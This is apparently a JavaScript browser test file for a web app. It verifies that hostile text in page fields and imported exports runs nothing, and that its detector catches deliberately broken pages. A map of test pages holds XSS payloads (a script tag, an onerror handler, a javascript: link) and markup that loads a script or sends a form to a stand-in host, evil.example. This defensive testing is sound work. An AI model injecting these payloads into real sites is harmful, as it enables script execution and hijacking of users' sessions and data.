// Hostile texts in every field of every page, in Chromium: nothing runs, nothing leaves its place.
// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { attack, visitAll } from '../lib/attack.mjs';
import { launchBrowser } from '../lib/browser.mjs';
import { attackImport } from '../lib/import_attack.mjs';
import { sample } from '../lib/payloads.mjs';

const CORPORA_STRINGS = 220;
const IMPORTED_STRINGS = 60;

let browser;
before(async () => { browser = await launchBrowser(); });
after(() => browser.close());

const none = (faults) => assert.equal(faults.length, 0, `${faults.length} faults\n${faults.slice(0, 40).join('\n')}`);

test('hostile texts run nothing and stay in their place', async (t) => {
    const { faults, pages } = await attack(browser, sample(CORPORA_STRINGS), { together: 3 });
    t.diagnostic(`${pages} pages`);
    none(faults);
});

test('hostile texts in an export run nothing and stay in their place', async (t) => {
    const { faults, pages } = await attackImport(browser, sample(IMPORTED_STRINGS), { together: 4 });
    t.diagnostic(`${pages} pages`);
    none(faults);
});

// A page as it would be if something slipped through, for each way in which something could.
const BROKEN = {
    'a script that runs': '<h1><script>alert(1)</script></h1>',
    'a handler that runs': '<h1><img src=x onerror=alert(1)></h1>',
    'a handler that waits': '<h1 onclick=alert(1)>x</h1>',
    'a link that runs': '<a href="javascript:alert(1)">x</a>',
    'a frame': '<iframe src="about:blank"></iframe>',
    'a form': '<form action="https://evil.example/"></form>',
    'a base': '<base href="https://evil.example/">',
    'a script asked for elsewhere': '<script type=module src="http://evil.example/x.js"></script>',
    'a drawing': '<svg></svg>',
    'a page that leaves': '<script>location = "/elsewhere"</script>',
};

test('what runs or leaves its place would be found', async (t) => {
    const server = http.createServer((request, answer) => {
        answer.setHeader('content-type', 'text/html');
        answer.end(`<!doctype html><title>x</title>${BROKEN[decodeURIComponent(request.url.slice(1))] ?? ''}`);
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    for (const name of Object.keys(BROKEN))
        await t.test(name, async () => {
            const page = { kind: 'broken', path: `/${encodeURIComponent(name)}` };
            const faults = await visitAll(browser, `http://127.0.0.1:${server.address().port}`, [page], { policy: false, tabs: 1 });
            assert.notEqual(faults.length, 0);
        });
    server.closeAllConnections();
    server.close();
});
